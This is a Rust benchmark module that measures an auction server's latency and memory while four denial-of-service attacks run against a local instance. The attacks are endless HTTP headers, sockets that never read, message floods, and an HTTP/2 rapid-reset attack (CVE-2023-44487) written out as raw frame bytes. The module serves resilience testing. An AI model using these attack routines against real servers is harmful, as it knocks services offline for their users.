//! What honest bidders notice of an attack, and what it costs the server in
//! memory. The attackers run on the processors of the server, in threads that
//! get only what nobody else wants: they stand for machines of their own.

use super::{
    ack::Acks,
    gavel::Gavel,
    report::{Report, Section},
    viewers::Client,
};
use crate::Outcome;
use std::{
    net::SocketAddr,
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering::Relaxed},
    },
    time::Duration,
};
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    runtime::Runtime,
    task::JoinSet,
    time::{sleep, timeout},
};

const BIDS_PER_SECOND: u32 = 500;
/// Of its own address an attacker gets nowhere; many addresses are meant. Every other limit is on.
const LIMITS: &str = "sockets_per_ip_max=0 handshakes_per_ip_rate=0 bids_per_user_max=0";
/// Times what bidders wait without an attack.
const TIMES_MAX: f64 = 2.0;
/// Below this, a machine that does other things as well decides on the ratio.
const MEASURABLE_MS: f64 = 1.0;
const KIB: f64 = 1024.0;
/// How long an attack may take to come to its size.
const PATIENCE: Duration = Duration::from_secs(60);
/// How long a server that reads at all leaves nothing unread.
const STUCK_AFTER: Duration = Duration::from_secs(3);
/// Before an attacker that was refused comes again.
const AGAIN: Duration = Duration::from_millis(10);

/// What strangers do.
#[derive(Debug, Clone, Copy)]
enum Attack {
    HalfHeads,
    NeverRead,
    Messages,
    Resets,
}

/// Where they do it.
#[derive(Debug, Clone)]
struct Victim {
    web: SocketAddr,
    grpc: SocketAddr,
    /// Attackers that have come to where it hurts.
    there: Arc<AtomicUsize>,
}

/// Measures the same load without and with each attack.
pub(crate) fn measure(report: &mut Report) -> Outcome<()> {
    let title =
        format!("From bid to answer at {BIDS_PER_SECOND} bids a second on one node, under attack");
    let mut waits = Section::new(&title, "p99 in ms");
    let mut memory = Section::new("Resident memory that an attack takes", "KiB");
    let crowd = crowd()?;
    let gavel = Gavel::start(1, &[], LIMITS)?;
    let (calm, load) = under_load(&gavel)?;
    drop(gavel);
    waits.row("nobody attacks", calm.p99, None);
    let bar = (calm.p99 * TIMES_MAX).max(MEASURABLE_MS * TIMES_MAX);
    for attack in Attack::ALL {
        let gavel = Gavel::start(1, &[], &format!("{LIMITS} {}", attack.limits()))?;
        let before = gavel.process.resident_bytes()?;
        let attackers = crowd.block_on(attack.begin(Victim::of(&gavel)?))?;
        let (acks, most) = under_load(&gavel)?;
        drop(attackers);
        waits.row(attack.name(), acks.p99, Some(bar));
        let taken = (most.bytes - before - load.grown()).max(0.0) / KIB;
        memory.row(attack.name(), taken, None);
        if let Some(most) = attack.kib_max() {
            let each = taken / f64::from(u32::try_from(attack.attackers())?);
            memory.row("for each of them", each, Some(most));
        }
    }
    report.add(waits);
    report.add(memory);
    Ok(())
}

/// The runtime of the attackers.
fn crowd() -> Outcome<Runtime> {
    let humble = || assert!(rustix::process::nice(19).is_ok(), "anybody may be nicer");
    let mut builder = tokio::runtime::Builder::new_multi_thread();
    Ok(builder.worker_threads(2).enable_all().on_thread_start(humble).build()?)
}

/// Resident memory of the server while it was loaded.
struct Memory {
    before: f64,
    /// The most of it.
    bytes: f64,
}

fn under_load(gavel: &Gavel) -> Outcome<(Acks, Memory)> {
    let before = gavel.process.resident_bytes()?;
    let mut memory = Memory { before, bytes: before };
    let acks = Acks::under_load(gavel, BIDS_PER_SECOND, || {
        memory.bytes = memory.bytes.max(gavel.process.resident_bytes()?);
        Ok(())
    })?;
    Ok((acks, memory))
}

// === impl Memory ===

impl Memory {
    fn grown(&self) -> f64 {
        self.bytes - self.before
    }
}

// === impl Attack ===

impl Attack {
    const ALL: [Self; 4] = [Self::HalfHeads, Self::NeverRead, Self::Messages, Self::Resets];

    const fn name(self) -> &'static str {
        match self {
            Self::HalfHeads => "5000 heads that never end",
            Self::NeverRead => "50 sockets that never read",
            Self::Messages => "4 sockets that flood messages",
            Self::Resets => "2 connections that reset streams, by gRPC",
        }
    }

    const fn attackers(self) -> usize {
        match self {
            Self::HalfHeads => 5_000,
            Self::NeverRead => 50,
            Self::Messages => 4,
            Self::Resets => 2,
        }
    }

    /// What has to be lifted for it to be one.
    const fn limits(self) -> &'static str {
        match self {
            Self::NeverRead => "messages_per_session_rate=0",
            Self::HalfHeads | Self::Messages | Self::Resets => "",
        }
    }

    /// What one attacker may take, where there are enough of them to tell.
    const fn kib_max(self) -> Option<f64> {
        match self {
            Self::HalfHeads | Self::NeverRead => Some(64.0),
            Self::Messages | Self::Resets => None,
        }
    }

    /// Lets all attackers begin and waits until they are there; dropping them ends it.
    async fn begin(self, victim: Victim) -> Outcome<JoinSet<()>> {
        let mut attackers = JoinSet::new();
        for _ in 0..self.attackers() {
            let victim = victim.clone();
            attackers.spawn(async move {
                loop {
                    // One that is cut or refused comes again.
                    drop(self.attack(&victim).await);
                    sleep(AGAIN).await;
                }
            });
        }
        let all = async {
            while victim.there.load(Relaxed) < self.attackers() {
                sleep(AGAIN).await;
            }
        };
        timeout(PATIENCE, all).await.map_err(|_| format!("{self:?} does not come to its size"))?;
        Ok(attackers)
    }

    async fn attack(self, victim: &Victim) -> Outcome<()> {
        match self {
            Self::HalfHeads => victim.half_a_head().await,
            Self::NeverRead => victim.never_read().await,
            Self::Messages => victim.flood().await,
            Self::Resets => victim.reset_streams().await,
        }
    }
}

// === impl Victim ===

impl Victim {
    fn of(gavel: &Gavel) -> Outcome<Self> {
        let grpc = gavel.control()?.trim_start_matches("http://").parse()?;
        Ok(Self { web: gavel.address()?, grpc, there: Arc::default() })
    }

    fn arrive(&self) {
        self.there.fetch_add(1, Relaxed);
    }

    async fn half_a_head(&self) -> Outcome<()> {
        let mut stream = TcpStream::connect(self.web).await?;
        stream.write_all(b"GET /ws HTTP/1.1\r\nHost: x\r\nX-Half: ").await?;
        self.arrive();
        until_cut(&mut stream).await
    }

    /// Has more said to it than is read, and updates on top of that.
    async fn never_read(&self) -> Outcome<()> {
        let mut client = Client::connect_narrow(self.web).await?;
        client.say(r#"{"type":"joinAuction","auctionId":1}"#).await?;
        let ping = format!(r#"{{"type":"ping","t":"{}"}}"#, "x".repeat(60));
        // Until the server reads no more of it, since its answers are not read.
        while let Ok(said) = timeout(STUCK_AFTER, client.say(&ping)).await {
            said?;
        }
        self.arrive();
        std::future::pending().await
    }

    /// Says more than it may, as fast as it is taken.
    async fn flood(&self) -> Outcome<()> {
        let mut client = Client::connect(self.web).await?;
        self.arrive();
        let pings = r#"{"type":"ping"}"#;
        loop {
            client.say(pings).await?;
        }
    }

    /// Opens streams and resets them at once (CVE-2023-44487).
    async fn reset_streams(&self) -> Outcome<()> {
        let mut stream = TcpStream::connect(self.grpc).await?;
        stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0").await?;
        self.arrive();
        for n in 0..20_000_u32 {
            let id = (2 * n + 1).to_be_bytes();
            let opened = [&b"\0\0\x03\x01\x04"[..], &id, b"\x83\x86\x84"];
            let reset = [&b"\0\0\x04\x03\0"[..], &id, b"\0\0\0\x08"];
            stream.write_all(&[opened, reset].concat().concat()).await?;
        }
        until_cut(&mut stream).await
    }
}

/// Reads until the other side has enough.
async fn until_cut(stream: &mut TcpStream) -> Outcome<()> {
    let mut sink = [0; 256];
    while stream.read(&mut sink).await? > 0 {}
    Ok(())
}
